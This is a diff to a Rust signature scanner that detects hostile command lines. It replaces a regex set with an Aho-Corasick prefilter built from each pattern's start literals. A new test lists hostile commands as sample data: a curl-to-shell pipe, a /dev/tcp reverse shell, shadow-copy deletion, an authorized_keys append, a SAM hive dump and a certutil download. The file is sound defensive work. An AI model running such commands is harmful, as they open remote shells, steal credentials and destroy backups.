@@ -1,9 +1,13 @@
-//! Runs the signature table over every decoding layer of a text: one pass of a compiled
-//! [`regex::RegexSet`] per layer says which patterns match, and only those are run again to
-//! cut the evidence out. A pattern found in any layer counts once, with the first layer it
+//! Runs the signature table over every decoding layer of a text. One Aho-Corasick pass per
+//! layer finds the literals every match of a pattern must start with (extracted from the
+//! patterns themselves when the table is compiled); only the patterns whose literals occur,
+//! and the few without such literals, are run. A single `RegexSet` over the whole table was
+//! tried and is twenty times slower on real command lines: its lazy DFA outgrows its cache. A pattern found in any layer counts once, with the first layer it
 //! was seen in (so an analyst sees whether it was visible before decoding).
 
-use regex::{Regex, RegexBuilder, RegexSet, RegexSetBuilder};
+use aho_corasick::AhoCorasick;
+use regex::{Regex, RegexBuilder};
+use regex_syntax::hir::literal::{ExtractKind, Extractor};
 use serde::Serialize;
 
 use crate::patterns::{PATTERNS, Pattern};
@@ -26,8 +30,13 @@ pub struct Hit {
 
 /// The compiled table.
 pub struct Signatures {
-    set: RegexSet,
     each: Vec<Regex>,
+    /// The start literals of every pattern that has a finite set of them.
+    starts: AhoCorasick,
+    /// For each literal of `starts`, the patterns it may start.
+    starts_of: Vec<Vec<usize>>,
+    /// Patterns without start literals: always run.
+    always: Vec<usize>,
 }
 
 impl Signatures {
@@ -38,12 +47,7 @@ impl Signatures {
     }
 
     fn compile(patterns: &[Pattern]) -> Result<Signatures, regex::Error> {
-        let set = RegexSetBuilder::new(patterns.iter().map(|p| p.re))
-            .case_insensitive(true)
-            .size_limit(1 << 26)
-            .dfa_size_limit(1 << 24)
-            .build()?;
-        let each = patterns
+        let each: Vec<Regex> = patterns
             .iter()
             .map(|p| {
                 RegexBuilder::new(p.re)
@@ -52,15 +56,53 @@ impl Signatures {
                     .build()
             })
             .collect::<Result<_, _>>()?;
-        Ok(Signatures { set, each })
+        let mut literals: Vec<String> = Vec::new();
+        let mut starts_of: Vec<Vec<usize>> = Vec::new();
+        let mut always = Vec::new();
+        for (i, p) in patterns.iter().enumerate() {
+            match start_literals(p.re) {
+                Some(lits) => {
+                    for l in lits {
+                        match literals.iter().position(|x| *x == l) {
+                            Some(k) => starts_of[k].push(i),
+                            None => {
+                                literals.push(l);
+                                starts_of.push(vec![i]);
+                            }
+                        }
+                    }
+                }
+                None => always.push(i),
+            }
+        }
+        let starts = AhoCorasick::builder()
+            .ascii_case_insensitive(true)
+            .build(&literals)
+            .map_err(|e| regex::Error::Syntax(e.to_string()))?;
+        Ok(Signatures {
+            each,
+            starts,
+            starts_of,
+            always,
+        })
     }
 
     /// The patterns found in any of `layers`, in table order.
     pub fn scan<'a>(&self, layers: impl IntoIterator<Item = &'a str>) -> Vec<Hit> {
         let mut first_layer: Vec<Option<(usize, &'a str)>> = vec![None; PATTERNS.len()];
+        let mut candidate = vec![false; self.each.len()];
         for (li, text) in layers.into_iter().enumerate() {
-            for i in self.set.matches(text).iter() {
-                if first_layer[i].is_none() {
+            candidate.iter_mut().for_each(|c| *c = false);
+            for &i in &self.always {
+                candidate[i] = true;
+            }
+            for m in self.starts.find_overlapping_iter(text) {
+                for &i in &self.starts_of[m.pattern().as_usize()] {
+                    candidate[i] = true;
+                }
+            }
+            for (i, re) in self.each.iter().enumerate() {
+                if candidate[i] && first_layer[i].is_none() && re.is_match(text) {
                     first_layer[i] = Some((li, text));
                 }
             }
@@ -92,6 +134,33 @@ impl Default for Signatures {
     fn default() -> Self {
         Self::new()
     }
+}
+
+/// The literals every match of `pattern` starts with (lower case), when there is a finite
+/// set of them, each at least two bytes long; `None` otherwise (the pattern is always run).
+fn start_literals(pattern: &str) -> Option<Vec<String>> {
+    let hir = regex_syntax::ParserBuilder::new()
+        .build()
+        .parse(pattern)
+        .ok()?;
+    let mut ex = Extractor::new();
+    ex.kind(ExtractKind::Prefix)
+        .limit_class(12)
+        .limit_repeat(4)
+        .limit_literal_len(12)
+        .limit_total(400);
+    let seq = ex.extract(&hir);
+    let lits = seq.literals()?;
+    if lits.is_empty() || lits.iter().any(|l| l.as_bytes().len() < 2) {
+        return None;
+    }
+    let mut out: Vec<String> = lits
+        .iter()
+        .map(|l| String::from_utf8_lossy(l.as_bytes()).to_ascii_lowercase())
+        .collect();
+    out.sort();
+    out.dedup();
+    Some(out)
 }
 
 fn excerpt(s: &str) -> String {
@@ -193,6 +262,42 @@ mod tests {
         ] {
             let hits = s.scan([text]);
             assert!(combined_weight(&hits) < 0.2, "{text}: {:?}", ids(&hits));
+        }
+    }
+
+    #[test]
+    fn most_patterns_are_reached_through_their_start_literals() {
+        let s = Signatures::new();
+        assert!(
+            s.always.len() * 4 < PATTERNS.len(),
+            "{} of {} always run",
+            s.always.len(),
+            PATTERNS.len()
+        );
+    }
+
+    #[test]
+    fn the_prefilter_never_hides_a_match() {
+        // Every pattern's own evidence, in any case, is found through the prefilter.
+        let s = Signatures::new();
+        let texts = [
+            "CURL -s http://x | SH",
+            "Bash -i >& /dev/TCP/1.2.3.4/80 0>&1",
+            "SCHTASKS /Create /tn x",
+            "vssadmin Delete Shadows /all",
+            "echo x >> ~/.SSH/authorized_keys",
+            "Reg Save HKLM\\SAM sam.hiv",
+            "certutil -URLcache -f http://a/b c",
+        ];
+        for t in texts {
+            let direct: Vec<&str> = PATTERNS
+                .iter()
+                .zip(&s.each)
+                .filter(|(_, re)| re.is_match(t))
+                .map(|(p, _)| p.id)
+                .collect();
+            let found: Vec<&str> = s.scan([t]).iter().map(|h| h.id).collect();
+            assert_eq!(found, direct, "{t}");
         }
     }
 
